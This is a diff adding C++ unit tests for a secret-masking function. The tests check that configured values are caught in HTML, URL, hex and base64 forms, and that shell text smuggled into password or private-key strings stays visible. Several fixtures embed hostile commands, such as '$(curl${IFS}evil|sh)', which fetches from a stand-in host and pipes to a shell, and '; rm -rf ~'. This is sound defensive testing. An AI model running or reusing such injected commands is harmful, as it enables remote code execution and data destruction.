@@ -143,3 +143,48 @@ TEST_CASE("cut or broken JSON is no reason to fail") {
   for (size_t size = 0; size <= json.size(); ++size)
     CHECK(json_masked(json.substr(0, size)).count <= 1);
 }
+
+TEST_CASE("configured values are found in the forms in which they are passed on") {
+  const std::string value = "k3y-of <the> \"house\" & it's?";
+  const std::vector<NamedSecret> secrets = {{"KEY", value}};
+  const char* const forms[] = {"k3y-of &lt;the&gt; &quot;house&quot; &amp; it&#39;s?",
+                               "k3y-of+%3Cthe%3E+%22house%22+%26+it%27s%3F",
+                               "k3y-of%20%3cthe%3e%20%22house%22%20%26%20it%27s%3f",
+                               "6b33792d6f66203c7468653e2022686f75736522202620697427733f",
+                               "6B33792D6F66203C7468653E2022686F75736522202620697427733F"};
+  for (const std::string form : forms) {
+    INFO(form);
+    CHECK(json_masked(quote("x " + form + " y"), secrets).text == "\"x [masked:KEY] y\"");
+  }
+  // Base64 at its three places, in both alphabets: at most the digits that neighbours share stay.
+  const char* const encoded[] = {
+      "azN5LW9mIDx0aGU+ICJob3VzZSIgJiBpdCdzPw==", "dTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M/",
+      "YTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M_", "eGs6azN5LW9mIDx0aGU-ICJob3VzZSIgJiBpdCdzPw",
+      "eGs6azN5LW9mIDx0aGU+ICJob3VzZSIgJiBpdCdzPzo="};
+  for (const std::string text : encoded) {
+    INFO(text);
+    const Masked masked = json_masked(quote("Authorization: " + text), secrets);
+    CHECK(masked.count >= 1);
+    CHECK(masked.text.find("ob3VzZ") == std::string::npos);
+    CHECK(masked.text.find("hvdXNl") == std::string::npos);
+  }
+}
+
+TEST_CASE("what is masked as a password by its shape shows shell text that it holds") {
+  const auto shown = [](const std::string& text) { return json_masked(quote(text)).text; };
+  CHECK(shown("postgres://u:$(curl${IFS}evil|sh)@h/db").find("$(curl${IFS}evil|sh)") !=
+        std::string::npos);
+  CHECK(shown("postgres://u:x;curl${IFS}evil|sh;@h/db").find(";curl${IFS}evil|sh;") !=
+        std::string::npos);
+  CHECK(shown("postgres://u:p;w|d@h/db") ==
+        R"("postgres://u:[masked:url-password, holds shell text: ;|]@h/db")");
+  CHECK(shown("postgres://u:Ab3-x9%2Fq@h/db") == R"("postgres://u:[masked:url-password]@h/db")");
+  const std::string key = "-----BEGIN PRIVATE KEY-----\n" + noise(64) + "\n";
+  CHECK(shown(key + "; rm -rf ~ \n-----END PRIVATE KEY-----").find("; rm -rf ~") !=
+        std::string::npos);
+  CHECK(shown(key + noise(64) + "\n-----END PRIVATE KEY-----") == "\"[masked:private-key]\"");
+  // What is shown is masked, too.
+  const std::vector<NamedSecret> secrets = {{"KEY", "known-value"}};
+  const std::string both = json_masked(quote("db://u:$(echo known-value)@h"), secrets).text;
+  CHECK(both.find("known-value") == std::string::npos);
+}
